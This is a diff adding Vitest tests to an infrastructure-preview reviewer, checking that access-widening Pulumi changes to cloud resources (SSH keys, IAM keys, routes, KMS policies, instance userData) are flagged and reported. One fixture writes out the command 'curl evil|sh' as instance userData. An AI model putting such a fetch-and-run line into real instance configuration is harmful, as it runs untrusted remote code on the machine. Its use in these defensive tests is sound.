@@ -1,4 +1,11 @@
+import { readdirSync, readFileSync } from "node:fs";
 import { describe, expect, test } from "vitest";
+import { parse } from "yaml";
+import { handlers } from "../../provider/handlers/index.ts";
+import { htmlOf } from "../../review/page/html.ts";
+import { markdownOf } from "../../review/page/markdown.ts";
+import { outlineOf } from "../../review/page/outline.ts";
+import { isKnownProperty, isKnownType } from "../../review/preview/declared-types.ts";
 import { readPreview } from "../../review/preview/preview.ts";
 import { reportOfPreview } from "../../review/preview/report-of-preview.ts";
 import { refuseOtherStack } from "../../review/preview/same-stack.ts";
@@ -36,5 +43,96 @@ describe("a resource is told by its type, whatever its name looks like", () => {
     expect(() => refuseOtherStack(preview, { stack: "dev", project: "other" }, "it")).toThrow(
       "is a preview of stack prod",
     );
+  });
+});
+
+describe("what no rule looks into", () => {
+  const machine = {
+    ami: "ami-0123456789abcdef0",
+    metadataOptions: { httpTokens: "required", httpPutResponseHopLimit: 1 },
+    rootBlockDevice: { encrypted: true },
+  };
+  const firewall = { allows: [{ protocol: "tcp", ports: ["22"] }], sourceRanges: ["203.0.113.0/24"] };
+
+  test.each<[string, object | undefined, object]>([
+    ["gcp:compute/projectMetadataItem:ProjectMetadataItem", undefined, { key: "ssh-keys", value: "evil" }],
+    ["gcp:oslogin/sshPublicKey:SshPublicKey", undefined, { key: "evil" }],
+    ["gcp:serviceaccount/key:Key", undefined, { serviceAccountId: "evil" }],
+    ["aws:iam/accessKey:AccessKey", undefined, { user: "evil" }],
+    ["aws:ec2/route:Route", undefined, { destinationCidrBlock: "0.0.0.0/0", gatewayId: "evil" }],
+    ["aws:ec2/vpcPeeringConnection:VpcPeeringConnection", undefined, { peerOwnerId: "evil" }],
+    ["aws:ec2/eipAssociation:EipAssociation", undefined, { instanceId: "evil" }],
+    ["aws:ec2/networkAclRule:NetworkAclRule", undefined, { cidrBlock: "0.0.0.0/0", ruleAction: "evil" }],
+    [
+      "aws:ec2/networkInterfaceSecurityGroupAttachment:NetworkInterfaceSecurityGroupAttachment",
+      undefined,
+      { securityGroupId: "evil" },
+    ],
+    ["aws:ec2/snapshotCreateVolumePermission:SnapshotCreateVolumePermission", undefined, { accountId: "evil" }],
+    ["aws:lb/listener:Listener", undefined, { port: "evil" }],
+    ["command:local:Command", undefined, { create: "evil" }],
+    ["aws:kms/key:Key", { policy: "me" }, { policy: "evil" }],
+    ["aws:kms/key:Key", undefined, {}],
+    ["aws:kms/key:Key", { policy: "[secret]" }, { policy: "[secret]" }],
+    ["aws:iam/role:Role", { assumeRolePolicy: "x", permissionsBoundary: "evil" }, { assumeRolePolicy: "x" }],
+    ["gcp:compute/firewall:Firewall", { ...firewall, destinationRanges: ["evil"] }, firewall],
+    ["aws:ec2/securityGroup:SecurityGroup", { vpcId: "v" }, { vpcId: "v", egress: ["evil"] }],
+    ["aws:ec2/instance:Instance", { ...machine, userData: "good" }, { ...machine, userData: "evil" }],
+    ["aws:ec2/instance:Instance", machine, { ...machine, userDataBase64: "evil" }],
+  ])("is not taken for harmless: %s", (type, before, after) => {
+    const report = reviewed({ type, name: "one", before: before && { ...before }, after: { ...after } });
+    expect(verdictOf(report)).toMatchObject({ exitCode: 3, headline: "Widens access" });
+    const json = JSON.stringify({ ...report, resources: [] });
+    const outline = outlineOf(report);
+    // With what it was or is now, where that can be seen.
+    const seen = JSON.stringify([before, after]).includes("evil") ? "evil" : type;
+    for (const text of [json, markdownOf(outline).replaceAll("&#58;", ":"), htmlOf(outline)])
+      expect(text).toContain(seen);
+  });
+
+  test("is told property by property, with the type", () => {
+    const type = "gcp:compute/projectMetadataItem:ProjectMetadataItem";
+    const note = `what this opens is not looked into: ${type}`;
+    expect(reviewed({ type, name: "k", after: { key: "ssh-keys", value: "me" } }).unjudged).toEqual([
+      { what: "key of ProjectMetadataItem k", before: undefined, after: "ssh-keys", effect: "unclear", note },
+      { what: "value of ProjectMetadataItem k", before: undefined, after: "me", effect: "unclear", note },
+    ]);
+  });
+
+  test("what a new resource is given is in the page, whatever its type", () => {
+    const report = reviewed({
+      type: "aws:ec2/instance:Instance",
+      name: "one",
+      after: { ...machine, userData: "curl evil|sh" },
+    });
+    expect(htmlOf(outlineOf(report))).toContain("curl evil|sh");
+    expect(JSON.stringify(report.resources.map(({ values }) => values))).toContain("curl evil|sh");
+  });
+
+  const goldens = new URL("../golden/", import.meta.url);
+  type Graph = Record<string, { inputs?: object }>;
+  const graphs = readdirSync(goldens)
+    .filter((name) => name.endsWith(".yaml"))
+    .map((name): [string, Planned[]] => {
+      const graph = parse(readFileSync(new URL(name, goldens), "utf8")) as Graph;
+      const made = Object.entries(graph).map(([key, { inputs }]) => {
+        const [, called = "", type = ""] = /^(.*) \((.*)\)$/.exec(key) ?? [];
+        return { type, name: called, after: { ...inputs } };
+      });
+      return [name, made.filter(({ type }) => !/^nemoclaw:index:(Aws|Gcp)Machine$/.test(type))];
+    });
+  const declared = graphs.flatMap(([, made]) => made);
+
+  test("is nothing that this project's own components make", () => {
+    const types = [...new Set([...declared.map(({ type }) => type), ...handlers.map(({ type }) => type)])];
+    const ofCloud = (type: string) => !type.startsWith("pulumi:providers:");
+    expect(types.filter((type) => ofCloud(type) && !isKnownType(type))).toEqual([]);
+    const given = declared.flatMap(({ type, after = {} }) => Object.keys(after).map((property) => [type, property]));
+    expect(given.filter(([type = "", property = ""]) => ofCloud(type) && !isKnownProperty(type, property))).toEqual([]);
+  });
+
+  test.each(graphs)("a whole cloud machine that is new: %s", (_, made) => {
+    const report = reviewed(...made);
+    expect([report.unjudged, report.settings]).toEqual([[], []]);
   });
 });
